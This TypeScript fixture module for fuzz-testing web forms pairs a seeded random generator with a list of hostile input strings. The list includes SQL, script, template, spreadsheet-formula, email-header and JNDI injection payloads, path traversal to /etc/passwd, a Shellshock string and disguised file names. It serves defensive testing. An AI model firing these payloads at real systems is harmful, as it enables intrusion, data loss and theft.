/** Texts that no kind person types, the same at each run, so that a failure can be seen again. */

/** @returns numbers from 0 to below `most`, drawn from a seed */
export function drawnFrom(seed: number): (most: number) => number {
  let state = seed;
  return (most) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % most;
  };
}

/** Known by the faults that they have found in other people's forms. */
export const nasty: readonly string[] = [
  '',
  ' '.repeat(40_000),
  `${' '.repeat(40_000)}x`,
  `a${' '.repeat(40_000)}b`,
  '\t\n'.repeat(30_000),
  'a'.repeat(65_000),
  '@'.repeat(40_000),
  'a@'.repeat(20_000),
  `a@${'a.'.repeat(20_000)}`,
  `a@${'a-'.repeat(20_000)}.uk`,
  `https://${'a.'.repeat(20_000)}uk`,
  `https://${'%2e'.repeat(5000)}`,
  'www.'.repeat(10_000),
  '\u200d'.repeat(40_000),
  `a${'\u0301'.repeat(40_000)}`,
  '\ufdfa'.repeat(4000),
  'e\u200b\u0301',
  '\u1100\u200b\u1161\u200b\u11a8',
  '\ud800',
  '\udc00\ud800',
  '\0',
  'x\0y',
  '\u3164',
  '\u2800\u2800',
  '\ufe0f',
  '\u{e0041}\u{e007f}',
  '\u202e\u202dabc\u2066',
  '\uffff\u{1fffe}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  '[object Object]',
  '{"$gt":""}',
  "'; DROP TABLE submission; --",
  "' OR '1'='1",
  '1; SELECT pg_sleep(10)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
  '=HYPERLINK("https://x.example","y")',
  '+1+cmd|/C calc!A0',
  '@SUM(1)',
  '-2+3',
  '＝1+1',
  'x\r\nBcc: victim@example.org',
  'a@b.uk\r\nSubject: x',
  'a@b.uk, c@d.uk',
  '../../etc/passwd',
  'file:///etc/passwd',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//.uk',
  'data:text/html,x',
  'https://a.uk:99999',
  'https://user:pass@a.uk',
  'https://a.uk\\@b.uk',
  'https://a.uk,b.uk',
  'https://[::ffff:7f00:1]/',
  'https://0177.0.0.1',
  'https://0x7f000001',
  'https://１２７.0.0.1',
  'https://xn--.uk',
  'https://%00.uk',
  'https://a.uk/%ZZ',
  '%s%n%x',
  '${jndi:ldap://x.example/a}',
  '() { :;}; echo x',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '٠١٢٣',
  '𝕊𝕔𝕙𝕠𝕠𝕝',
  'Ѕсhооl',
  'z\u0335\u0321\u0328'.repeat(200),
  '👩‍🏫👨‍👩‍👧‍👦',
  'ﷺ',
  'İıſßŉ',
  '‮gpj.exe',
];

const ranges: readonly (readonly [number, number])[] = [
  [0, 0x80],
  [0x20, 0x7f],
  [0x80, 0x600],
  [0x900, 0x1200],
  [0x2000, 0x2070],
  [0x3000, 0x3200],
  [0xd800, 0xe000],
  [0xfe00, 0x10000],
  [0, 0x110000],
  [0xe0000, 0xe0200],
];

/** @returns `count` texts of random letters, each from one or two parts of Unicode where faults live */
export function drawnTexts(count: number, seed: number): string[] {
  const draw = drawnFrom(seed);
  return Array.from({ length: count }, () => {
    const kinds = [ranges[draw(ranges.length)]!, ranges[draw(ranges.length)]!];
    return Array.from({ length: 1 + draw(40) }, () => {
      const [from, to] = kinds[draw(2)]!;
      return String.fromCodePoint(from + draw(to - from));
    }).join('');
  });
}
